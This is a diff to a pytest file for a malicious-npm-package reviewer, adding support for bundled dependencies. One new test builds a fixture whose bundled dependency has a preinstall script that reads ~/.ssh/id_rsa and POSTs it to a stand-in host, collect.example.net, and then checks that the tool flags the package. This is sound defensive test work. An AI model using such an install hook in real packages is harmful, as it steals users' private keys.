@@ -19,23 +19,43 @@ FIXTURES = all_fixtures()
 
 
 def _expected_category(stage: str) -> str:
+    if stage == "runtime":  # a dependency's code that sends a secret when the program runs
+        return "secrets"
     return "install" if stage in INSTALL_STAGES else "output_llm"
 
 
-def _assert_payloads_found(report, fx, prefix: str = "package/") -> None:
+def payload_place(fx, file: str) -> str:
+    """Where a payload file sits in the package: a bundled dependency's folder is packed under
+    node_modules/NAME/."""
+    for name, folder in fx.bundle.items():
+        if file.startswith(f"{folder}/"):
+            return f"node_modules/{name}/{file.removeprefix(folder + '/')}"
+    return file.removeprefix("package/")
+
+
+def _assert_payloads_found(report, fx) -> None:
     for payload in fx.payloads:
         cat = _expected_category(payload.stage)
         assert report.level(cat) == "high", (fx.name, cat, report.summary())
-        where = payload.file.removeprefix(prefix)
-        hits = [
-            f for f in report.category(cat).findings if (f.file, f.line) == (where, payload.line)
-        ]
+        where = payload_place(fx, payload.file)
+        found = report.category(cat).findings
+        if payload.stage == "runtime":  # the marker line is the stand-in; the send is the harm
+            hits = [f for f in found if f.file == where and f.level == "high"]
+        else:
+            hits = [f for f in found if (f.file, f.line) == (where, payload.line)]
         assert hits, f"{fx.name}: no {cat} finding at {where}:{payload.line}"
 
 
 @pytest.mark.parametrize("fx", FIXTURES, ids=[f.name for f in FIXTURES])
-def test_fixture_source_is_high_at_the_payload_line(fx) -> None:
-    _assert_payloads_found(review(fx.source), fx)
+def test_fixture_source_is_high_at_the_payload_line(fx, tmp_path: Path) -> None:
+    if not fx.bundle:
+        _assert_payloads_found(review(fx.source), fx)
+        return
+    # A bundled dependency is in the packed tarball, not in the source folder: the folder's
+    # review says so, and the tarball's finds the payload.
+    rules = {f.rule for _, f in review(fx.source).findings}
+    assert "install.limit" in rules, fx.name
+    _assert_payloads_found(review(build(fx, tmp_path)["tgz"]), fx)
 
 
 @pytest.mark.parametrize("fx", FIXTURES, ids=[f.name for f in FIXTURES])
@@ -141,3 +161,28 @@ def test_review_never_imports_watch_or_the_reviewed_code() -> None:
             assert not any(n.startswith(("hooklab.watch", "importlib", "runpy")) for n in names), (
                 path
             )
+
+
+def test_a_bundled_dependency_s_install_script_is_an_install_hook(tmp_path: Path) -> None:
+    """npm installs a bundled dependency with the package and runs its scripts: a scoped one,
+    one level down, whose script file is named relative to its own folder."""
+    dep = "node_modules/@acme/helper"
+    tgz = _tgz(
+        tmp_path / "p.tgz",
+        {
+            "package.json": json.dumps(
+                {"name": "p", "version": "1.0.0", "bundleDependencies": ["@acme/helper"]}
+            ),
+            "index.js": "console.log('hi');\n",
+            f"{dep}/package.json": json.dumps(
+                {"name": "@acme/helper", "version": "1.0.0", "scripts": {"preinstall": "node s.js"}}
+            ),
+            f"{dep}/s.js": "const fs = require('fs');\n"
+            "const k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n"
+            "fetch('https://collect.example.net/', { method: 'POST', body: k });\n",
+        },
+    )
+    report = review(tgz)
+    assert report.level("install") == "high" and report.verdict == "malicious"
+    assert any(f.file == f"{dep}/s.js" for f in report.category("install").findings)
+    assert any(f.file == f"{dep}/package.json" for f in report.category("install").findings)
